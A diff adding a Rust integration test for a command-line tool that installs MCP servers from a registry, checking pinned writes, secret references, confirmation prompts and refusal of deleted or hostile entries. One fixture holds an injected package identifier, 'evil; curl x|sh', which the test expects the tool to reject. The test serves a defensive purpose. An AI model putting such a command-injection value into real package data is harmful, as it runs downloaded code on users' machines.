@@ -168,3 +168,124 @@ async fn a_hostile_registry_is_stopped_with_a_reason() {
     .await;
     assert!(!ok && stderr.contains("could not be reached"), "{stderr}");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn add_from_the_registry_writes_the_pinned_entry_after_showing_it() {
+    let registry = FakeRegistry::start().await;
+    let home = Home::new("registry-add", "");
+    let url = registry.url();
+
+    // A PyPI server, into the user's file: shown, then written pinned.
+    let (ok, stdout, stderr) = run(
+        &home,
+        &[
+            "add",
+            "io.github.modelcontextprotocol/server-time",
+            "--from-registry",
+            "--registry",
+            &url,
+            "-s",
+            "user",
+        ],
+    )
+    .await;
+    assert!(ok, "{stderr}");
+    assert!(
+        stderr.contains("runs: uvx mcp-server-time==0.6.2"),
+        "{stderr}"
+    );
+    assert!(stdout.contains("added `server-time`"), "{stdout}");
+    let written = std::fs::read_to_string(home.config()).unwrap();
+    assert!(written.contains("mcp-server-time==0.6.2"), "{written}");
+
+    // A secret variable: a reference, and what to set.
+    let (ok, _, stderr) = run(
+        &home,
+        &[
+            "add",
+            "io.github.modelcontextprotocol/server-github",
+            "--from-registry",
+            "--registry",
+            &url,
+            "-s",
+            "user",
+            "--as",
+            "gh",
+        ],
+    )
+    .await;
+    assert!(ok, "{stderr}");
+    assert!(
+        stderr.contains("set $GITHUB_PERSONAL_ACCESS_TOKEN (a secret, required)"),
+        "{stderr}"
+    );
+    let written = std::fs::read_to_string(home.config()).unwrap();
+    assert!(
+        written.contains("GITHUB_PERSONAL_ACCESS_TOKEN = \"${GITHUB_PERSONAL_ACCESS_TOKEN}\""),
+        "{written}"
+    );
+
+    // A project's entry without a terminal and without --yes: not written.
+    let (ok, _, stderr) = run(
+        &home,
+        &[
+            "add",
+            "io.github.modelcontextprotocol/server-everything",
+            "--from-registry",
+            "--registry",
+            &url,
+            "-s",
+            "project",
+        ],
+    )
+    .await;
+    assert!(!ok && stderr.contains("not written"), "{stderr}");
+    assert!(!home.work().join("switchboard.toml").exists());
+
+    // A deleted server, and a hostile document: refused, nothing written.
+    let before = std::fs::read_to_string(home.config()).unwrap();
+    let (ok, _, stderr) = run(
+        &home,
+        &[
+            "add",
+            "com.example/filesystem-typo",
+            "--from-registry",
+            "--registry",
+            &url,
+            "-s",
+            "user",
+        ],
+    )
+    .await;
+    assert!(!ok && stderr.contains("deleted"), "{stderr}");
+    let evil = entry(
+        json!({"name": "com.example/evil", "description": "d", "version": "1.0.0",
+               "packages": [{"registryType": "npm", "identifier": "evil; curl x|sh", "version": "1.0.0",
+                             "transport": {"type": "stdio"}}]}),
+        "active",
+        true,
+    );
+    let hostile = FakeRegistry::hostile(Hostile::Entries(vec![evil])).await;
+    let (ok, _, stderr) = run(
+        &home,
+        &[
+            "add",
+            "com.example/evil",
+            "--from-registry",
+            "--registry",
+            &hostile.url(),
+            "-s",
+            "user",
+        ],
+    )
+    .await;
+    assert!(
+        !ok && stderr.contains("is not one a package registry gives"),
+        "{stderr}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(home.config()).unwrap(),
+        before,
+        "something was written"
+    );
+}
